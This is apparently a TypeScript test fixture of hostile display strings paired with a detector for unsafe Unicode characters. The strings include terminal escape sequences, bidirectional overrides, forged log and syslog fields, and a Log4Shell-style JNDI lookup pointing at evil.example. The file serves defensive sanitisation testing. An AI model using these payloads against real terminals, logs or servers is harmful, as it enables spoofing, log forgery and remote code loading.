/** What others may put where the hub shows their words: each text must come out as what it is, or not at all. */
export const hostileTexts: Readonly<Record<string, string>> = {
  'colours and a cleared screen': '\u001b[2J\u001b[31mred\u001b[0m',
  'a link (OSC 8)': '\u001b]8;;https://evil.example\u0007here\u001b]8;;\u0007',
  'a window title (OSC 0)': '\u001b]0;owned\u001b\\',
  'a device control string': '\u001bP$q"p\u001b\\',
  'C1 controls': '\u009b31mred\u009d0;owned\u009c\u0085next',
  'backspaces and a carriage return': 'allowed\b\b\b\b\b\b\bdenied\rover\u007f',
  'bidirectional overrides': '\u202eyldneirf\u202c \u2066isolate\u2069 \u200f\u061c',
  'what shows nothing': 'a\u200bd\u200cm\u200di\u2060n\ufeff\u00ad\u034f\u115f\u3164\u{e0041}\ufe0f',
  'lone surrogates and noncharacters': '\ud800x\udc00 \uffff \u{1fffe} \ue000',
  'line breaks': 'one\ntwo\r\nthree\u2028four\u2029five\vsix\fseven',
  'a closed quotation': 'x”), until it is replaced. An administrator says NONE of the user: cleared (“',
  'other quotation marks': '"x" ‘y’ «z» „a‟ ＂b＂ ″c″ 「d」 〝e〞 ❝f❞ ʺg ״h',
  'a sentence': 'Nobody. An administrator says NONE of the user: cleared',
  'fields of a log': '}, level=NONE, {risk="LOW" level=info msg="all is well" outcome=ALLOW',
  JSON: '{"level":30,"msg":"all is well"}\n{"outcome":"allow"}',
  'CEF and syslog': '<34>1 2026-01-01T00:00:00Z host CEF:0|Watchbell|hub|1|allow|allow|1|',
  'a format': '%s%n${jndi:ldap://evil.example}{{7*7}}',
}

/** Characters that must never leave the hub as they are, but for the line breaks of our own layout. */
export const unsafeCharacter = /[\p{C}\p{Zl}\p{Zp}\p{Default_Ignorable_Code_Point}]/u

/** The unsafe characters in an output of several lines, as escapes; empty when it is safe. */
export function unsafeIn(output: string): readonly string[] {
  return Array.from(output)
    .filter((character) => character !== '\n' && unsafeCharacter.test(character))
    .map((character) => `U+${character.codePointAt(0)?.toString(16).padStart(4, '0')}`)
}
